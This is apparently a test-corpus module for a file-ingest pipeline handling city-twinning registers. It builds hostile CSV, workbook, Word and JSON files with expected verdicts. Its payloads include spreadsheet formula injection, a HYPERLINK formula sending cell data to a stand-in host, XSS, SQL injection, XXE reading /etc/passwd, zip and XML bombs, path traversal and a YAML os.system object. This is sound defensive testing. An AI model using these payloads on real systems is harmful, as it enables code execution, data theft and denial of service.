"""The files: how each is made, and what has to become of it.

A verdict is one of

* ``accept``: every row is taken, and nothing is said beyond what is said of every register;
* ``remark``: every row is taken, and what was done or left out is told;
* ``row``: a row is refused, with a reason, and the good rows are taken;
* ``file``: the whole file is refused, with one line.
"""

from __future__ import annotations

import codecs
import json
import os
import pickle
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from openpyxl.comments import Comment

from tests.ingest.hostile.makers import (
    BOOK,
    GOOD,
    HEADS,
    REGISTER,
    SHEET,
    added,
    book,
    cut,
    directory,
    fifo,
    flipped,
    line,
    linked,
    nested,
    note,
    place,
    records,
    replaced,
    saved_book,
    table,
    unreadable_word,
    with_row,
    word,
    written,
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A kind of file.

    :param make: writes it into a folder and returns its path
    :param good: rows that have to be taken, if the file is not refused
    """

    kind: str
    verdict: str
    make: Callable[[Path], Path]
    good: int = len(GOOD)


CORPUS: list[Hostile] = []


def kind(name: str, verdict: str, make: Callable[[Path], Path], good: int = len(GOOD)) -> None:
    """Add a kind of file to the corpus."""
    CORPUS.append(Hostile(name, verdict, make, good))


# --- texts in cells: they stay texts ------------------------------------------------------------------------

kind("formula", "accept", note("=1+1"))
kind("formula_that_starts_a_program", "accept", note("=cmd|'/c calc'!A0"))
kind("formula_by_plus", "accept", note("+1+cmd|'/c calc'!A0"))
kind("formula_by_at", "accept", note("@SUM(1+1)"))
kind("formula_with_a_link", "accept", note('=HYPERLINK("http://example.invalid/?"&A1,"x")'))
kind("html", "accept", note('<img src=x onerror="alert(1)">'))
kind("script", "accept", note("<script>fetch('http://example.invalid')</script>"))
kind("cypher", "accept", note("'}) DETACH DELETE n //"))
kind("sql", "accept", note("'; DROP TABLE rows; --"))
kind("template", "accept", note("{{7*7}} ${7*7} <%= 7*7 %> {0.__class__}"))
kind("format_signs", "accept", note("%s %n %(x)s {} {0} {name}"))
kind("markdown", "accept", note("[x](javascript:alert(1)) ![y](http://example.invalid/z.png)"))
kind("latex", "accept", note(r"\input{/etc/passwd}"))
kind("path", "accept", note("../../../etc/passwd"))
kind("emoji", "accept", note("👩‍👩‍👧‍👦" * 20))
kind("name_as_formula", "accept", place("=1+1"))
kind("name_as_html", "accept", place("<b>Trier</b>"))
kind("nul", "remark", note("a\0b"))
kind("escape_sequence", "remark", note("\x1b[2J\x1b]0;x\x07"))
kind("direction_override", "remark", note("abc\u202efdp.exe"))
kind("zero_width", "remark", note("Tri\u200ber"))
kind("look_alike", "remark", with_row("德国", "Trіer", "2010-11-11", "Cyrillic letter in the name"))
kind("tag_characters", "remark", note("x" + "".join(chr(0xE0000 + ord(sign)) for sign in "hidden")))
kind("private_use", "accept", note("\ue000\uf8ff"))
kind("many_marks_on_a_letter", "accept", note("a" + "\u0301" * 500))
kind("cell_of_900_kilobytes", "row", note("x" * 900_000))
kind("lines_in_a_cell", "accept", note("one\ntwo\r\nthree"))

# --- values -------------------------------------------------------------------------------------------------

kind("day_that_is_none", "row", with_row("德国", "特里尔", "2010-02-30", ""))
kind("month_that_is_none", "row", with_row("德国", "特里尔", "2010-13-01", ""))
kind("date_with_two_readings", "row", with_row("德国", "特里尔", "03/04/2010", ""))
kind("year_of_nine_digits", "row", with_row("德国", "特里尔", "201011111", ""))
kind("negative_year", "row", with_row("德国", "特里尔", "-0044-03-15", ""))
kind("not_a_number_as_date", "row", with_row("德国", "特里尔", "NaN", ""))
kind("country_that_is_none", "row", with_row("亚特兰蒂斯", "特里尔", "2010-11-11", ""))
kind("no_country", "row", with_row("", "特里尔", "2010-11-11", ""))
kind("no_city", "row", with_row("德国", "", "2010-11-11", "x"))
kind("total", "remark", with_row("合计", "2", "", ""))
kind("footnote", "remark", with_row("注：本表不含友好交流城市。", "", "", ""))
kind("heads_again", "remark", with_row(*HEADS))
VISITS = ("来访日期", "国家", "团组名称", "人数")
for name, count in (("infinite", "1e309"), ("not_a_number", "NaN"), ("negative", "-3"), ("huge", "9" * 40)):
    kind(
        f"{name}_number_of_persons",
        "remark",
        written(
            table([("2019-05-01", "英国", "代表团", "3"), ("2019-05-02", "英国", "代表团", count)], VISITS),
            "来访.csv",
        ),
        good=1,
    )

# --- rows and lines -----------------------------------------------------------------------------------------

TEXT = table(GOOD)
kind("short_row", "accept", written(TEXT + "德国,特里尔,2010-11-11\n"))
kind("long_row", "row", written(TEXT + "德国,特里尔,2010-11-11,x,y,z\n"))
kind(
    "open_quotation_mark",
    "row",
    written(TEXT + '德国,特里尔,2010-11-11,"so\n' + "法国,南特,2011-01-01,x\n" * 3 + '"\n'),
)
kind("quotation_mark_open_to_the_end", "file", written(TEXT + '德国,特里尔,2010-11-11,"so\nx,y\n'))
kind("line_of_two_megabytes", "file", written(TEXT + "德国,特里尔,2010-11-11," + "x" * 2_000_000 + "\n"))
kind("columns_200000", "file", written("a," * 200_000 + "\n" + "1," * 200_000 + "\n"))
kind("blank_heads", "remark", with_row("德国", "特里尔", "2010-11-11", "x", "y", heads=(*HEADS, "")))
kind("head_twice", "accept", with_row("德国", "特里尔", "2010-11-11", "x", "y", heads=(*HEADS, "备注")))
kind("head_as_formula", "accept", with_row("德国", "特里尔", "2010-11-11", "x", "y", heads=(*HEADS, "=1+1")))
kind("head_as_html", "accept", with_row("德国", "特里尔", "2010-11-11", "x", "y", heads=(*HEADS, "<b>x</b>")))
kind(
    "head_of_a_megabyte",
    "file",
    with_row("德国", "特里尔", "2010-11-11", "x", "y", heads=(*HEADS, "x" * 1_000_000)),
)
kind("only_heads", "file", written(table([])))
kind("empty", "file", written(b""))
kind("only_a_mark", "file", written(codecs.BOM_UTF8))
kind("only_blank_lines", "file", written("\n" * 50_000))
kind("carriage_returns", "accept", written(TEXT.replace("\n", "\r")))
kind("mixed_line_ends", "accept", written(table(GOOD[:1]) + line(GOOD[1]).replace("\n", "\r\n")))
kind("a_million_blank_lines", "accept", written(TEXT + "\n" * 1_000_000))

# --- encodings ----------------------------------------------------------------------------------------------

CHINESE = table([(*row[:3], "一九八三年正式结为友好城市，双方互访频繁") for row in GOOD])
JAPANESE = table(
    [
        ("英国", "カーディフ", "1983-03-31", "はじめての姉妹都市となりました"),
        ("韓国", "プサン", "1989-10-30", "港のまち"),
    ],
    ("国名", "姉妹都市名", "提携年月日", "備考"),
)
KOREAN = table(
    [
        ("영국", "카디프", "1983-03-31", "첫번째 자매도시가 되었습니다"),
        ("일본", "후쿠오카", "1989-10-24", "항구도시"),
    ],
    ("국가", "자매도시", "체결일", "비고"),
)
FRENCH = table(
    [
        ("Royaume-Uni", "Cardiff", "1983-03-31", "première ville jumelée à l'été"),
        ("Japon", "Sasebo", "1983-10-28", "préfecture de Nagasaki, côte rocheuse"),
    ],
    ("Pays", "Ville jumelée", "Date de signature", "Remarques"),
)
for name, data in (
    ("utf8_with_mark", codecs.BOM_UTF8 + CHINESE.encode()),
    ("utf16_with_mark", CHINESE.encode("utf-16")),
    ("utf16_of_the_other_order", codecs.BOM_UTF16_BE + CHINESE.encode("utf-16-be")),
    ("utf32_with_mark", CHINESE.encode("utf-32")),
    ("gb18030", CHINESE.encode("gb18030")),
    ("big5", CHINESE.translate(str.maketrans("国结访频备夫单", "國結訪頻備夫單")).encode("big5", "ignore")),
    ("shift_jis", JAPANESE.encode("cp932")),
    ("euc_kr", KOREAN.encode("euc_kr")),
    ("windows_1252", FRENCH.encode("cp1252")),
):
    kind(name, "accept", written(data))
kind("bytes_that_are_no_text", "file", written(bytes(range(256)) * 200))
kind("utf8_cut_in_a_character", "file", written(TEXT.encode()[:-2] + b"\xe7"))
kind(
    "utf8_with_a_wrong_byte",
    "file",
    written(TEXT.encode() + "德国,特里尔,2010-11-11,\n".encode() + b"\xff\xfe,\x80\n"),
)
kind("overlong_utf8", "file", written(TEXT.encode() + b"\xc0\xaf,\xe0\x80\xaf\n"))

# --- endings that lie ---------------------------------------------------------------------------------------

kind("picture_as_text", "file", written(b"\x89PNG\r\n\x1a\n" + os.urandom(2_000)))
kind("workbook_as_text", "file", lambda folder: written(saved_book(folder))(folder))
kind("text_as_workbook", "file", written(TEXT, BOOK))
kind("page_as_workbook", "file", written("<html><table><tr><td>国家</td></tr></table></html>", "友城.xls"))
kind("pdf_as_workbook", "file", written(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", BOOK))
kind("protected_workbook", "file", written(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 4_096, BOOK))
kind("protected_old_workbook", "file", written(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 4_096, "友城.xls"))
kind("pickle", "file", written(pickle.dumps([HEADS, *GOOD]), "友城.pkl"))
kind("pickle_as_text", "file", written(pickle.dumps([HEADS, *GOOD])))
kind("yaml_object", "file", written("!!python/object/apply:os.system ['true']\n", "友城.yaml"))
kind("program", "file", written(b"MZ" + b"\0" * 200, "友城.exe"))

# --- workbooks ----------------------------------------------------------------------------------------------

kind("workbook", "accept", book())
kind("cut_workbook", "file", cut)
kind("flipped_workbook", "file", flipped)
kind("bomb", "file", book(parts=added("xl/media/zero.bin", b"\0" * 60_000_000)))
kind("bomb_in_comments", "file", book(parts=added("xl/comments9.xml", b"<comments>" + b"x" * 60_000_000)))
kind("bomb_that_nobody_refers_to", "file", book(parts=added("docProps/custom9.bin", b"\1" * 90_000_000)))
kind(
    "bomb_in_a_sheet",
    "file",
    book(parts=replaced(SHEET, b"</sheetData>", b"</sheetData>" + b" " * 60_000_000)),
)
kind("nested_archives", "accept", book(parts=added("xl/media/a.zip", nested(3))))
kind(
    "thousands_of_parts",
    "file",
    book(parts=lambda found: found.update({f"xl/media/{n}.bin": b"" for n in range(25_000)})),
)
ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
kind("entities_in_a_sheet", "file", book(parts=replaced(SHEET, rb"^(<\?xml[^>]*\?>)?", ENTITY)))
kind("external_entity_in_a_sheet", "file", book(parts=replaced(SHEET, rb"^(<\?xml[^>]*\?>)?", EXTERNAL)))
kind(
    "entities_in_the_list_of_sheets",
    "file",
    book(parts=replaced("xl/workbook.xml", rb"^(<\?xml[^>]*\?>)?", ENTITY)),
)
kind("far_corner", "file", book(parts=replaced(SHEET, rb'r="B2"', b'r="XFD1048576"')))
kind("far_column", "file", book(lambda workbook: workbook.active.cell(2, 9_000, "x")))
kind(
    "claimed_extent",
    "accept",
    book(parts=replaced(SHEET, rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"')),
)
kind(
    "macros",
    "accept",
    book(parts=added("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 100), name="友城.xlsm"),
)
kind(
    "link_to_another_workbook",
    "row",
    book(
        lambda workbook: workbook.active.append(
            ["德国", "特里尔", "2010-11-11", "='[http://example.invalid/x.xlsx]S'!A1"]
        )
    ),
)
kind(
    "error_value",
    "row",
    book(
        lambda workbook: workbook.active.append(["德国", "特里尔", "=NA()", "x"]),
        replaced(SHEET, rb'<c r="C4"[^>]*>.*?</c>', b'<c r="C4" t="e"><f>NA()</f><v>#N/A</v></c>'),
    ),
)
kind(
    "formula_without_a_result",
    "row",
    book(lambda workbook: workbook.active.append(["德国", "特里尔", "=A1", "x"])),
)
kind(
    "merged_cells",
    "remark",
    book(
        lambda workbook: (
            workbook.active.append(["日本", "", "2001-01-01", "x"]),
            workbook.active.merge_cells("B3:B4"),
        )
    ),
)
kind(
    "merge_of_a_million_rows",
    "accept",
    book(
        parts=replaced(
            SHEET, b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A10:D1048576"/></mergeCells>'
        )
    ),
)
kind(
    "hidden_sheet",
    "accept",
    book(lambda workbook: setattr(workbook.create_sheet("hidden"), "sheet_state", "veryHidden")),
)
kind(
    "comment",
    "accept",
    book(lambda workbook: setattr(workbook.active["A2"], "comment", Comment("<script>x</script>", "x"))),
)
kind(
    "sheet_named_as_formula",
    "accept",
    book(lambda workbook: setattr(workbook.active, "title", "=cmd|'c'!A0".replace("'", "").replace("!", ""))),
)
kind("sheet_that_is_not_there", "file", book(parts=lambda found: found.pop(SHEET)))
kind("part_outside_the_folder", "accept", book(parts=added("../../../evil.txt", b"x")))
kind(
    "sheet_outside_the_file",
    "file",
    book(
        parts=replaced(
            "xl/_rels/workbook.xml.rels", rb'Target="[^"]*sheet1.xml"', b'Target="../../../../etc/passwd"'
        )
    ),
)
kind("unfinished_xml", "file", book(parts=lambda found: found.update({SHEET: found[SHEET][:-60]})))
kind(
    "deep_xml_behind_the_cells",
    "accept",
    book(parts=replaced(SHEET, b"</sheetData>", b"</sheetData>" + b"<x>" * 200_000)),
)

# --- Word and JSON ------------------------------------------------------------------------------------------

kind("word_table", "accept", word(lambda document: None))
kind(
    "word_without_a_table",
    "file",
    word(lambda document: document.tables[0]._element.getparent().remove(document.tables[0]._element)),
)
kind("word_with_entities", "file", unreadable_word(ENTITY))
kind("word_with_external_entity", "file", unreadable_word(EXTERNAL))
kind("word_marked_secret", "file", word(lambda document: document.add_paragraph("机密★10年")))
for name, content in (
    ("json", json.dumps(records())),
    ("json_in_an_object", json.dumps({"rows": records()})),
):
    kind(name, "accept", written(content, "友城.json"))
GOOD_JSON = json.dumps(records())[1:-1]
for name, content in (
    ("json_not_a_number", f'[{GOOD_JSON}, {{"国家": NaN}}]'),
    ("json_infinite", f'[{GOOD_JSON}, {{"国家": -Infinity}}]'),
    ("json_name_twice", f'[{GOOD_JSON}, {{"国家": "德国", "国家": "法国"}}]'),
    ("json_deep", "[" * 200_000),
    ("json_deep_objects", '{"a":' * 100_000),
    ("json_number", "1"),
    ("json_list_of_lists", "[[1, 2], [3, 4]]"),
    ("json_cut", f"[{GOOD_JSON}"),
    ("json_number_of_a_million_digits", f'[{GOOD_JSON}, {{"国家": {"9" * 1_000_000}}}]'),
):
    kind(name, "file", written(content, "友城.json"))
kind(
    "json_half_a_character",
    "remark",
    written(
        json.dumps(records(dict(zip(HEADS, ("德国", "特里尔", "2010-11-11", "\ud800"), strict=True)))),
        "友城.json",
    ),
)
kind("json_lines", "accept", written("\n".join(json.dumps(one) for one in records()), "友城.jsonl"))
kind(
    "json_lines_with_a_wrong_one",
    "file",
    written("\n".join([*(json.dumps(one) for one in records()), "{x"]), "友城.jsonl"),
)

# --- what is no file, and names -----------------------------------------------------------------------------

kind("pipe", "file", fifo, good=0)
kind("folder_with_the_name_of_a_file", "file", directory, good=0)
kind("link_to_itself", "file", linked(lambda folder: folder / REGISTER), good=0)
kind("link_to_nothing", "file", linked(lambda folder: folder / "none.csv"), good=0)
kind("link_to_a_device", "file", linked(lambda folder: Path("/dev/zero")), good=0)
kind("name_with_a_line_break", "accept", written(TEXT, "友城\n表.csv"))
kind("name_as_a_formula", "accept", written(TEXT, "=cmd 友城.csv"))
kind("name_with_html", "accept", written(TEXT, "<img src=x>友城.csv"))
kind("name_with_direction_override", "accept", written(TEXT, "友城\u202evsc.csv"))
kind("name_with_two_hundred_letters", "accept", written(TEXT, "友" * 78 + ".csv"))
kind("name_that_is_no_text", "file", written(TEXT, os.fsdecode("友城".encode() + b"\xff.csv")))

# --- secrets and private persons ----------------------------------------------------------------------------

for name, mark in (
    ("mark", "机密"),
    ("mark_with_years", "秘密★5年"),
    ("mark_in_full_width", "绝　密"),
    ("mark_with_spaces", "机 密 ★ 长期"),
    ("mark_in_brackets", "【机密】"),
):
    kind(f"secret_{name}", "file", written(line([mark, "", "", ""]) + TEXT))
kind("secret_in_the_name", "file", written(TEXT, "友城（机密）.csv"))
kind(
    "secret_sheet",
    "file",
    book(lambda workbook: setattr(workbook.create_sheet("机密").cell(1, 1), "value", "x")),
)
for name, head, cell in (
    ("identity_numbers", "身份证号", "11010519491231002X"),
    ("identity_numbers_under_another_head", "备注二", "11010519491231002X"),
    ("passports", "护照号码", "E00000000"),
    ("telephones", "手机", "13800000000"),
    ("private_addresses", "家庭住址", "某路1号"),
    ("birthdays", "Date of birth", "1949-12-31"),
):
    kind(name, "remark", written(table([(*row, cell) for row in GOOD], (*HEADS, head))))
